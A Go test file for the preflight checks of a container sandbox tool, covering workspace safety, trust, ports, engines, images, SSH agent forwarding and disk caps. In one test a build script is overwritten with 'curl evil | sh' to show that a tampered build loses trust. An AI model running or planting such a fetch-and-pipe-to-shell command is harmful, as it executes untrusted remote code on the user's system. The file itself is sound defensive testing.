package preflight_test

import (
	"context"
	"errors"
	"io"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/propio/propio-sandbox/generator"
	"github.com/propio/propio-sandbox/internal/backend"
	"github.com/propio/propio-sandbox/internal/buildinputs"
	"github.com/propio/propio-sandbox/internal/fsutil"
	"github.com/propio/propio-sandbox/internal/preflight"
	"github.com/propio/propio-sandbox/internal/profile"
)

// fakeEngine is an engine with a fixed info and image list.
type fakeEngine struct {
	info    backend.Info
	infoErr error
	images  map[string]string // ref: architecture
}

// HasNetwork: the engine has the networks named models and bridge.
func (f fakeEngine) HasNetwork(_ context.Context, name string) (bool, error) {
	return name == "models" || name == "bridge", nil
}

func (f fakeEngine) Info(context.Context) (backend.Info, error) { return f.info, f.infoErr }
func (f fakeEngine) ImageArch(_ context.Context, ref string) (string, bool, error) {
	arch, ok := f.images[ref]
	return arch, ok, nil
}

type fakeTrust struct{ err error }

func (f fakeTrust) Verify(*profile.Profile) error { return f.err }

func (f fakeTrust) Lookup(string) (string, []byte, bool, error) { return "", nil, false, f.err }

// hintedErr is an engine error that carries hints, as the CLI's do.
type hintedErr struct{ error }

func (hintedErr) Hints() []string { return []string{"start the engine"} }

// remoteEngine is goodEngine on another machine, with 8 cores and 16g, a
// container of which publishes 127.0.0.1:8080/tcp.
func remoteEngine(in *preflight.Inputs) {
	e := goodEngine
	e.info.Kind, e.info.Version, e.info.Host = "docker", "26.1.5", "ssh://me@far.test"
	e.info.Remote, e.info.RemoteWhy = true, "the engine at ssh://me@far.test is reached over the network"
	e.info.CPUs, e.info.Memory, e.info.Published = 8, 16<<30, []string{"127.0.0.1:8080/tcp", "0.0.0.0:9001/udp"}
	in.Connect = func(context.Context) (preflight.EngineConn, error) { return e, nil }
	in.Listen = func(string, string) (io.Closer, error) { return nil, errors.New("this host's port, not the engine's") }
}

var goodEngine = fakeEngine{
	info:   backend.Info{Arch: "amd64", DataDir: "/var/lib/docker", Runtimes: []string{"runc", "runsc"}, DefaultRuntime: "runc"},
	images: map[string]string{"img:1": "amd64", "arm:1": "arm64"},
}

// load writes yaml as a profile file in its own directory and loads it.
func load(t *testing.T, yaml string) *profile.Profile {
	t.Helper()
	path := filepath.Join(t.TempDir(), "profile.yaml")
	if err := os.WriteFile(path, []byte(yaml), 0o644); err != nil {
		t.Fatal(err)
	}
	p, err := profile.Locations{}.LoadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// inputs are Inputs that pass every check, for a workspace of its own.
func inputs(t *testing.T, yaml string) preflight.Inputs {
	t.Helper()
	ws := t.TempDir()
	return preflight.Inputs{
		Profile:   load(t, "image: img:1\n"+yaml),
		Workspace: ws,
		Home:      filepath.Dir(ws),
		Host:      generator.Host{Workspace: ws},
		Limits:    profile.Limits{CPUs: 4, Memory: 8 << 30},
		Trust:     fakeTrust{},
		Connect:   func(context.Context) (preflight.EngineConn, error) { return goodEngine, nil },
		LookupEnv: func(string) (string, bool) { return "", false },
		Listen:    func(string, string) (io.Closer, error) { return io.NopCloser(nil), nil },
	}
}

// one runs the check named name.
func one(t *testing.T, in preflight.Inputs, name string) preflight.Result {
	t.Helper()
	for _, c := range preflight.Checks(in) {
		if c.Name == name {
			return preflight.RunAll(context.Background(), []preflight.Check{c})[0]
		}
	}
	t.Fatalf("no check %q", name)
	return preflight.Result{}
}

func TestChecks(t *testing.T) {
	t.Parallel()
	occupied := func(network, addr string) (io.Closer, error) {
		if addr == "127.0.0.1:8080" && network == "tcp" {
			return nil, errors.New("address already in use")
		}
		return io.NopCloser(nil), nil
	}
	for _, tc := range []struct {
		name   string
		check  string
		yaml   string
		adjust func(*preflight.Inputs)
		ok     bool
		reason string // a part of the reason
		hint   string // a part of a hint, for failures
	}{
		{name: "workspace ok", check: preflight.Workspace, ok: true, reason: "is a directory the sandbox may have"},
		{name: "workspace root", check: preflight.Workspace, adjust: func(in *preflight.Inputs) { in.Workspace = "/" }, reason: "the workspace is /", hint: "project directory"},
		{name: "workspace home", check: preflight.Workspace, adjust: func(in *preflight.Inputs) { in.Home = in.Workspace }, reason: "your home directory", hint: "below your home"},
		{name: "workspace missing", check: preflight.Workspace, adjust: func(in *preflight.Inputs) { in.Workspace += "/gone" }, reason: "cannot be read"},
		{name: "workspace a file", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
			f := filepath.Join(in.Workspace, "f")
			os.WriteFile(f, nil, 0o644)
			in.Workspace = f
		}, reason: "is not a directory"},
		{name: "workspace in data dir", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
			e := goodEngine
			e.info.DataDir = filepath.Dir(in.Workspace)
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return e, nil }
		}, reason: "engine's data directory", hint: "outside"},
		{name: "workspace holds the engine's socket", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
			sock := filepath.Join(in.Workspace, "run", "docker.sock")
			os.MkdirAll(filepath.Dir(sock), 0o755)
			os.WriteFile(sock, nil, 0o644)
			in.Dangers = profile.GrantHost{Home: in.Home, Sockets: []string{sock}, Resolve: fsutil.Resolve}.Dangers
		}, reason: "contains the engine's socket", hint: "no keys, credentials or engine socket"},
		{name: "workspace a parent of HOME", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
			in.Home = filepath.Join(in.Workspace, "me")
			os.Mkdir(in.Home, 0o755)
			in.Dangers = profile.GrantHost{Home: in.Home, Resolve: fsutil.Resolve}.Dangers
		}, reason: "contains your home directory"},
		{name: "workspace in ~/.ssh", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
			in.Home = in.Workspace
			in.Workspace = filepath.Join(in.Home, ".ssh", "work")
			os.MkdirAll(in.Workspace, 0o755)
			in.Dangers = profile.GrantHost{Home: in.Home, Resolve: fsutil.Resolve}.Dangers
		}, reason: "is in ~/.ssh: the sandbox can read your SSH keys"},
		{name: "workspace in ~/.aws", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
			in.Home = in.Workspace
			in.Workspace = filepath.Join(in.Home, ".aws")
			os.MkdirAll(in.Workspace, 0o755)
			in.Dangers = profile.GrantHost{Home: in.Home, Resolve: fsutil.Resolve}.Dangers
		}, reason: "is in ~/.aws"},
		{name: "workspace without engine", check: preflight.Workspace, adjust: func(in *preflight.Inputs) {
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return nil, errors.New("down") }
		}, ok: true, reason: "was not compared"},

		{name: "trust not needed", check: preflight.Trust, ok: true, reason: "needs no trust"},
		{name: "trust ok", check: preflight.Trust, adjust: func(in *preflight.Inputs) { in.Workspace = filepath.Dir(in.Profile.Meta.Chain[0].Path) }, ok: true, reason: "is trusted"},
		{name: "trust refused", check: preflight.Trust, adjust: func(in *preflight.Inputs) {
			in.Workspace = filepath.Dir(in.Profile.Meta.Chain[0].Path)
			in.Trust = fakeTrust{errors.New("profile.yaml is not trusted")}
		}, reason: "not trusted", hint: "propio-sandbox trust"},

		{name: "env none", check: preflight.EnvRequired, ok: true, reason: "requires no variables"},
		{name: "env set", check: preflight.EnvRequired, yaml: "env: {pass: [KEY], required: [KEY]}\n", adjust: func(in *preflight.Inputs) {
			in.LookupEnv = func(n string) (string, bool) { return "v", n == "KEY" }
		}, ok: true, reason: "set: KEY"},
		{name: "env missing", check: preflight.EnvRequired, yaml: "env: {pass: [KEY, OTHER], required: [KEY, OTHER]}\n", adjust: func(in *preflight.Inputs) {
			in.LookupEnv = func(n string) (string, bool) { return "v", n == "KEY" }
		}, reason: "not set: OTHER", hint: "env.required"},

		{name: "resources fit", check: preflight.Resources, yaml: "resources: {cpus: 2, memory: 2g}\n", ok: true, reason: "fit this host"},
		{name: "resources too many cpus", check: preflight.Resources, yaml: "resources: {cpus: 2, memory: 2g}\n", adjust: func(in *preflight.Inputs) { in.Limits.CPUs = 1 }, reason: "more than this host's 1 cores", hint: "lower"},
		{name: "resources too much memory", check: preflight.Resources, yaml: "resources: {cpus: 2, memory: 2g}\n", adjust: func(in *preflight.Inputs) { in.Limits.Memory = 1 << 30 }, reason: "memory 2g is more than", hint: "lower"},

		{name: "resources fit a remote engine's host", check: preflight.Resources, yaml: "resources: {cpus: 6, memory: 12g}\n", adjust: remoteEngine, ok: true, reason: "cpus 6 and memory 12g fit the engine's host"},
		{name: "resources beyond a remote engine's host", check: preflight.Resources, yaml: "resources: {cpus: 2, memory: 20g}\n", adjust: remoteEngine, reason: "memory 20g is more than the engine's host's 16GiB", hint: "to what the engine's host has"},

		{name: "mounts ro and changeset on a remote engine", check: preflight.Mounts, yaml: "mounts: [{source: ., target: /data, mode: ro}, {source: ., target: /w, mode: changeset}]\n", adjust: remoteEngine, ok: true, reason: "copied to the engine's host"},
		{name: "mount rw on a remote engine", check: preflight.Mounts, yaml: "mounts: [{source: ., target: /data, mode: ro}, {source: ., target: /w, mode: rw}]\n", adjust: remoteEngine,
			reason: "the engine at ssh://me@far.test is reached over the network: its sandbox cannot write to a directory of this host: ", hint: "use mode changeset"},
		{name: "mounts exist", check: preflight.Mounts, yaml: "mounts: [{source: ., target: /data}, {source: ./gone, target: /gone, optional: true}]\n", ok: true, reason: "1 mount source(s) exist"},
		{name: "mount missing", check: preflight.Mounts, yaml: "mounts: [{source: ./gone, target: /gone}]\n", reason: "profile.yaml:2:19: mounts[0].source:", hint: "optional: true"},

		{name: "no ports", check: preflight.Ports, ok: true, reason: "publishes no ports"},
		{name: "ports free", check: preflight.Ports, yaml: "network: {mode: open}\nports: [\"8081:80\", \"0.0.0.0:9000-9001:90-91/udp\"]\n", adjust: func(in *preflight.Inputs) { in.Listen = occupied }, ok: true, reason: "127.0.0.1:8081/tcp"},
		{name: "port taken", check: preflight.Ports, yaml: "network: {mode: open}\nports: [\"8080\"]\n", adjust: func(in *preflight.Inputs) { in.Listen = occupied }, reason: "127.0.0.1:8080/tcp (address already in use)", hint: "another host port"},

		{name: "ports of a remote engine's host", check: preflight.Ports, yaml: "network: {mode: open}\nports: [\"8081:80\", \"9002:90/udp\"]\n", adjust: remoteEngine, ok: true, reason: "not published by the engine's containers, on its host: 127.0.0.1:8081/tcp, 127.0.0.1:9002/udp"},
		{name: "port taken on all of a remote engine's addresses", check: preflight.Ports, yaml: "network: {mode: open}\nports: [\"9001:90/udp\"]\n", adjust: remoteEngine, reason: "127.0.0.1:9001/udp (a container of the engine publishes 0.0.0.0:9001/udp)", hint: "another host port"},
		{name: "port taken on a remote engine's host", check: preflight.Ports, yaml: "network: {mode: open}\nports: [\"8080:80\"]\n", adjust: remoteEngine, reason: "127.0.0.1:8080/tcp (a container of the engine publishes 127.0.0.1:8080/tcp)", hint: "another host port"},

		{name: "engine ok", check: preflight.Engine, ok: true, reason: "reachable"},
		{name: "engine on another machine", check: preflight.Engine, adjust: remoteEngine, ok: true, reason: "at ssh://me@far.test, amd64; on another machine (the engine at ssh://me@far.test is reached over the network): the workspace goes there by copy"},
		{name: "allowlist on a remote engine", check: preflight.Engine, yaml: "network: {mode: allowlist, allow: [a.test]}\n", adjust: remoteEngine, ok: true, reason: "on another machine"},
		{name: "ask on a remote engine", check: preflight.Engine, yaml: "network: {mode: allowlist, allow: [a.test], unlisted: ask}\n", adjust: remoteEngine, reason: "profile.yaml:2:55: network.unlisted: ask does not run on an engine on another machine yet", hint: "network.unlisted: deny"},
		{name: "engine names itself", check: preflight.Engine, adjust: func(in *preflight.Inputs) {
			e := goodEngine
			e.info.Kind, e.info.Version, e.info.Host, e.info.Context, e.info.ContextFrom = "docker", "26.1.5", "unix:///d.sock", "desk", "DOCKER_CONTEXT"
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return e, nil }
		}, ok: true, reason: `reachable: docker 26.1.5 at unix:///d.sock (context "desk", from DOCKER_CONTEXT), amd64`},
		{name: "allowlist on rootful podman", check: preflight.Engine, yaml: "network: {mode: allowlist, allow: [a.test]}\n", adjust: func(in *preflight.Inputs) {
			e := goodEngine
			e.info.Kind, e.info.Version = "podman", "4.3.1"
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return e, nil }
		}, ok: true, reason: "reachable: podman 4.3.1"},
		{name: "allowlist on rootless podman", check: preflight.Engine, yaml: "network: {mode: allowlist, allow: [a.test]}\n", adjust: func(in *preflight.Inputs) {
			e := goodEngine
			e.info.Kind, e.info.Version, e.info.Rootless = "podman", "4.3.1", true
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return e, nil }
		}, ok: true, reason: "reachable: podman 4.3.1"},
		{name: "allowlist on an older podman", check: preflight.Engine, yaml: "network: {mode: allowlist, allow: [a.test]}\n", adjust: func(in *preflight.Inputs) {
			e := goodEngine
			e.info.Kind, e.info.Version, e.info.Rootless = "podman", "4.2.0", true
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return e, nil }
		}, reason: "reachable: podman 4.2.0, amd64; network.mode allowlist needs Podman 4.3.1 or newer", hint: "upgrade Podman to 4.3.1 or newer"},
		{name: "no allowlist on an older podman", check: preflight.Engine, yaml: "network: {mode: none}\n", adjust: func(in *preflight.Inputs) {
			e := goodEngine
			e.info.Kind, e.info.Version = "podman", "3.4.4"
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return e, nil }
		}, ok: true, reason: "reachable: podman 3.4.4"},
		{name: "engine down", check: preflight.Engine, adjust: func(in *preflight.Inputs) {
			in.Connect = func(context.Context) (preflight.EngineConn, error) {
				return nil, hintedErr{errors.New("the container engine is not running")}
			}
		}, reason: "not running", hint: "start the engine"},
		{name: "engine info fails", check: preflight.Engine, adjust: func(in *preflight.Inputs) {
			e := goodEngine
			e.infoErr = errors.New("reading the engine's info: boom")
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return e, nil }
		}, reason: "boom"},

		{name: "image present", check: preflight.Image, ok: true, reason: "img:1 is on the engine, for amd64"},
		{name: "image missing", check: preflight.Image, adjust: func(in *preflight.Inputs) { in.Profile.Image = "gone:1" }, reason: "gone:1 is not on the engine", hint: "never pulls"},
		{name: "image missing, buildable", check: preflight.Image, yaml: "build: {context: .}\n", adjust: func(in *preflight.Inputs) { in.Profile.Image = "gone:1"; in.Ref = "x" }, ok: true, reason: "gone:1 is not on the engine: run builds it first, from "},
		{name: "image built with --build", check: preflight.Image, yaml: "build: {context: .}\n", adjust: func(in *preflight.Inputs) { in.Profile.Image = "gone:1"; in.Build = true }, ok: true, reason: "will be built"},
		{name: "image other arch", check: preflight.Image, adjust: func(in *preflight.Inputs) { in.Profile.Image = "arm:1" }, reason: "built for arm64, the engine runs amd64"},
		{name: "image without engine", check: preflight.Image, adjust: func(in *preflight.Inputs) {
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return nil, errors.New("down") }
		}, reason: "not checked"},

		{name: "network.join none", check: preflight.NetworkJoin, ok: true, reason: "joins no networks"},
		{name: "network.join present", check: preflight.NetworkJoin, yaml: "network: {mode: allowlist, join: [models]}\n", ok: true, reason: "the gateway joins models"},
		{name: "network.join missing", check: preflight.NetworkJoin, yaml: "network: {mode: allowlist, join: [models, ollama-net]}\n",
			reason: "profile.yaml:2:43: network.join[1]: the engine has no network ollama-net", hint: "docker network create ollama-net; docker run -d --network ollama-net"},
		{name: "network.join without engine", check: preflight.NetworkJoin, yaml: "network: {mode: allowlist, join: [models]}\n", adjust: func(in *preflight.Inputs) {
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return nil, errors.New("down") }
		}, reason: "not checked"},

		{name: "runtime default", check: preflight.Runtime, ok: true, reason: "default runtime, runc"},
		{name: "runtime present", check: preflight.Runtime, yaml: "security: {runtime: runsc}\n", ok: true, reason: "has the runtime runsc"},
		{name: "runtime unknown", check: preflight.Runtime, yaml: "security: {runtime: nosuch}\n", reason: `no runtime "nosuch" (it has: runc, runsc)`, hint: "security.runtime"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			in := inputs(t, tc.yaml)
			if tc.adjust != nil {
				tc.adjust(&in)
			}
			r := one(t, in, tc.check)
			if r.Name != tc.check || r.OK != tc.ok || !strings.Contains(r.Reason, tc.reason) {
				t.Errorf("got %+v; want ok %v and a reason with %q", r, tc.ok, tc.reason)
			}
			if tc.ok && len(r.Hints) > 0 || !tc.ok && !strings.Contains(strings.Join(r.Hints, "\n"), tc.hint) {
				t.Errorf("hints %q; want one with %q", r.Hints, tc.hint)
			}
		})
	}
}

// TestRunStopsAtFirstFailure: Run returns the first failure and runs
// nothing after it; RunAll runs everything.
func TestRunStopsAtFirstFailure(t *testing.T) {
	t.Parallel()
	var ran []string
	mk := func(name string, ok bool) preflight.Check {
		return preflight.Check{Name: name, Fn: func(context.Context) preflight.Result {
			ran = append(ran, name)
			return preflight.Result{OK: ok, Reason: name + " says so"}
		}}
	}
	checks := []preflight.Check{mk("a", true), mk("b", false), mk("c", false)}
	err := preflight.Run(context.Background(), checks)
	var f *preflight.Failure
	if !errors.As(err, &f) || f.Name != "b" || err.Error() != "preflight check b failed: b says so" {
		t.Errorf("Run = %v; want the failure of b", err)
	}
	if strings.Join(ran, ",") != "a,b" {
		t.Errorf("Run ran %v; want a,b", ran)
	}
	ran = nil
	res := preflight.RunAll(context.Background(), checks)
	if len(res) != 3 || preflight.OK(res) || !res[0].OK || res[2].Name != "c" || res[2].Hints == nil {
		t.Errorf("RunAll = %+v", res)
	}
	if preflight.Run(context.Background(), checks[:1]) != nil || !preflight.OK(res[:1]) {
		t.Errorf("a passing check failed")
	}
}

// TestConnectOnce: every engine-facing check shares one connection attempt.
func TestConnectOnce(t *testing.T) {
	t.Parallel()
	in := inputs(t, "")
	n := 0
	in.Connect = func(context.Context) (preflight.EngineConn, error) { n++; return nil, errors.New("down") }
	preflight.RunAll(context.Background(), preflight.Checks(in))
	if n != 1 {
		t.Errorf("connected %d times, want 1", n)
	}
}

// TestPortsReal: the default Listen really finds a port taken.
func TestPortsReal(t *testing.T) {
	t.Parallel()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	in := inputs(t, "network: {mode: open}\nports: [\""+itoa(port)+":80\"]\n")
	in.Listen = nil
	if r := one(t, in, preflight.Ports); r.OK || !strings.Contains(r.Reason, "127.0.0.1:"+itoa(port)) {
		t.Errorf("got %+v; want the port taken", r)
	}
	ln.Close()
	if r := one(t, in, preflight.Ports); !r.OK {
		t.Errorf("got %+v; want the port free", r)
	}
}

func itoa(n int) string { return strconv.Itoa(n) }

// TestBuildTrust: with --build, a build whose Dockerfile or context is in the
// workspace needs trust for what it reads, and a change to it is refused,
// saying what changed; without --build, or with a build outside the
// workspace, nothing of the build is checked.
func TestBuildTrust(t *testing.T) {
	t.Parallel()
	ctx := t.TempDir() // the build's context; the profile is elsewhere
	in := inputs(t, "build: {context: "+ctx+"}\n")
	if err := os.WriteFile(filepath.Join(ctx, "Dockerfile"), []byte("FROM x\nCOPY setup.sh /\nRUN /setup.sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ctx, "setup.sh"), []byte("true\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	store := profile.TrustStore{Dir: t.TempDir()}
	in.Trust = store
	in.Ref = "mine"

	if r := one(t, in, preflight.Trust); !r.OK || !strings.Contains(r.Reason, "needs no trust") {
		t.Errorf("without --build: %+v", r)
	}
	in.Build = true
	if r := one(t, in, preflight.Trust); !r.OK || !strings.Contains(r.Reason, "the build reads nothing of the workspace") {
		t.Errorf("a build outside the workspace: %+v", r)
	}
	in.Workspace = ctx
	r := one(t, in, preflight.Trust)
	if r.OK || !strings.Contains(r.Reason, "the build of "+filepath.Join(ctx, "Dockerfile")+" is new") || !slices.ContainsFunc(r.Hints, func(h string) bool { return strings.Contains(h, "propio-sandbox trust -p mine") }) {
		t.Errorf("a build never trusted: %+v", r)
	}

	inputs, err := buildinputs.Collect(buildinputs.Paths{Context: ctx, Dockerfile: filepath.Join(ctx, "Dockerfile")})
	if err != nil {
		t.Fatal(err)
	}
	if err := store.Trust(nil, profile.Record{Key: inputs.Key(), Digest: inputs.Digest(), Text: inputs.Manifest()}); err != nil {
		t.Fatal(err)
	}
	if r := one(t, in, preflight.Trust); !r.OK || !strings.Contains(r.Reason, "the build of "+filepath.Join(ctx, "Dockerfile")+" is trusted as it is") {
		t.Errorf("a trusted build: %+v", r)
	}
	if err := os.WriteFile(filepath.Join(ctx, "setup.sh"), []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if r := one(t, in, preflight.Trust); r.OK || !strings.Contains(r.Reason, "setup.sh changed") {
		t.Errorf("a changed script: %+v", r)
	}
	in.Build = false
	if r := one(t, in, preflight.Trust); !r.OK {
		t.Errorf("run without --build needs no build trust: %+v", r)
	}

	// An image that is not on the engine: run builds it first, if the
	// build is trusted as it is (here it is not).
	missing := false
	in.Missing = func() { missing = true }
	in.Profile.Image = "gone:1"
	r = one(t, in, preflight.Image)
	if r.OK || missing || !strings.Contains(r.Reason, "gone:1 is not on the engine, and its build needs trust: ") || !strings.Contains(r.Reason, "setup.sh changed") ||
		!slices.ContainsFunc(r.Hints, func(h string) bool { return strings.Contains(h, "propio-sandbox trust -p mine") }) {
		t.Errorf("a missing image whose build is not trusted: %+v (building: %v)", r, missing)
	}
	in.Workspace = t.TempDir()
	if r := one(t, in, preflight.Image); !r.OK || !missing || !strings.Contains(r.Reason, "run builds it first, from "+ctx) {
		t.Errorf("a missing image whose build reads nothing of the workspace: %+v (building: %v)", r, missing)
	}
}

// TestBuiltinNamesKnownToProfiles: a declared check may not take a built-in
// check's name; the profile package's list must be this package's.
func TestBuiltinNamesKnownToProfiles(t *testing.T) {
	var names []string
	for _, c := range preflight.Checks(preflight.Inputs{Profile: &profile.Profile{}}) {
		names = append(names, c.Name)
	}
	if !slices.Equal(names, profile.BuiltinChecks) {
		t.Fatalf("built-in checks %v, profile.BuiltinChecks %v", names, profile.BuiltinChecks)
	}
}

func TestSSHAgentCheck(t *testing.T) {
	dir, err := os.MkdirTemp("", "ag")
	if err != nil {
		t.Fatal(err)
	}
	defer os.RemoveAll(dir)
	live := filepath.Join(dir, "live.sock")
	l, err := net.Listen("unix", live)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	dead := filepath.Join(dir, "dead.sock")
	tests := map[string]struct {
		profileMode string
		env         map[string]string
		remote      bool
		ok          bool
		reason      string
	}{
		"on, a remote engine":         {profileMode: "on", env: map[string]string{"SSH_AUTH_SOCK": live}, remote: true, reason: "reached over the network: SSH agent forwarding is on, and the agent's socket cannot be mounted into a sandbox on another machine"},
		"auto, a remote engine":       {profileMode: "auto", env: map[string]string{"SSH_AUTH_SOCK": live}, remote: true, ok: true},
		"off":                         {profileMode: "off", ok: true},
		"auto without an agent":       {profileMode: "auto", ok: true},
		"on with an agent":            {profileMode: "on", env: map[string]string{"SSH_AUTH_SOCK": live}, ok: true},
		"on without SSH_AUTH_SOCK":    {profileMode: "on", reason: "SSH_AUTH_SOCK is not set"},
		"on with a dead socket":       {profileMode: "on", env: map[string]string{"SSH_AUTH_SOCK": dead}, reason: "no agent answers"},
		"the environment turns it on": {profileMode: "off", env: map[string]string{"PROPIO_SANDBOX_SSH_AGENT": "on"}, reason: "SSH_AUTH_SOCK is not set"},
		"a bad mode":                  {profileMode: "off", env: map[string]string{"PROPIO_SANDBOX_SSH_AGENT": "yes"}, reason: "PROPIO_SANDBOX_SSH_AGENT"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			in := preflight.Inputs{
				Profile:   &profile.Profile{SSHAgent: tc.profileMode},
				LookupEnv: func(k string) (string, bool) { v, ok := tc.env[k]; return v, ok },
			}
			if tc.remote {
				in.Profile.Meta.File = "profile.yaml"
				remoteEngine(&in)
			}
			for _, c := range preflight.Checks(in) {
				if c.Name != preflight.SSHAgent {
					continue
				}
				r := c.Fn(context.Background())
				if r.OK != tc.ok || !strings.Contains(r.Reason, tc.reason) {
					t.Fatalf("ok=%v reason %q; want ok=%v and %q", r.OK, r.Reason, tc.ok, tc.reason)
				}
				if !r.OK && len(r.Hints) == 0 {
					t.Error("a failure without a hint")
				}
				return
			}
			t.Fatal("no ssh-agent check")
		})
	}
}

// The disk check says how the cap holds for each place the sandbox writes:
// the engine's quota or the launcher's watch for the writable layer, the
// tmpfs size, the workspace's watch, the changeset's realisation. It fails
// only when it cannot tell.
func TestDiskCheck(t *testing.T) {
	t.Parallel()
	quota := goodEngine
	quota.info.Storage = backend.Storage{Driver: "btrfs", Local: true, Quota: true, Why: "btrfs: the engine caps each writable layer with a qgroup"}
	watched := goodEngine
	watched.info.Storage = backend.Storage{Driver: "overlay2", BackingFS: "extfs", Local: true, Why: "overlay2 on extfs cannot cap a writable layer"}
	engineOf := func(f fakeEngine) func(*preflight.Inputs) {
		return func(in *preflight.Inputs) {
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return f, nil }
		}
	}
	for _, tc := range []struct {
		name   string
		yaml   string
		adjust func(*preflight.Inputs)
		ok     bool
		want   []string
	}{
		{name: "engine quota", adjust: engineOf(quota), ok: true, want: []string{"cap 10g;", "writable layer: capped by the engine, writes past it fail inside (btrfs", "/tmp and HOME: tmpfs of 1g each", "workspace: watched, a walk", "exit 122", "changeset: watched"}},
		{name: "watched layer", adjust: engineOf(watched), ok: true, want: []string{"writable layer: watched", "overlay2 on extfs cannot cap"}},
		{name: "read-only root and workspace", yaml: "security: {read_only_rootfs: true}\nworkspace: {mode: ro}\n", adjust: engineOf(watched), ok: true, want: []string{"writable layer: none (read-only root filesystem)", "workspace: none (read-only)"}},
		{name: "small cap sizes the tmpfs", yaml: "resources: {disk: 1g, tmp: 4g}\n", adjust: engineOf(watched), ok: true, want: []string{"cap 1g;", "tmpfs of 1g each"}},
		{name: "test cap", adjust: func(in *preflight.Inputs) {
			engineOf(watched)(in)
			in.LookupEnv = func(k string) (string, bool) { return "100m", k == "PROPIO_SANDBOX_TEST_DISK" }
		}, ok: true, want: []string{"cap 100m;", "tmpfs of 100m each"}},
		{name: "changeset overlay", yaml: "workspace: {mode: changeset}\n", adjust: func(in *preflight.Inputs) {
			engineOf(watched)(in)
			in.Changeset = func(context.Context) (string, string) { return generator.ChangesetOverlay, "" }
		}, ok: true, want: []string{"workspace: in its changeset", "changeset: overlay, its upper directory watched"}},
		{name: "changeset copy", adjust: func(in *preflight.Inputs) {
			engineOf(watched)(in)
			in.Changeset = func(context.Context) (string, string) { return generator.ChangesetCopy, "the engine is remote" }
		}, ok: true, want: []string{"changeset: copy (the engine is remote), watched"}},
		{name: "no engine", adjust: func(in *preflight.Inputs) {
			in.Connect = func(context.Context) (preflight.EngineConn, error) { return nil, errors.New("down") }
		}, want: []string{"not checked"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			in := inputs(t, tc.yaml)
			if tc.adjust != nil {
				tc.adjust(&in)
			}
			r := one(t, in, preflight.Disk)
			if r.OK != tc.ok {
				t.Errorf("ok = %v, want %v: %+v", r.OK, tc.ok, r)
			}
			for _, w := range tc.want {
				if !strings.Contains(r.Reason, w) {
					t.Errorf("reason %q lacks %q", r.Reason, w)
				}
			}
		})
	}
}
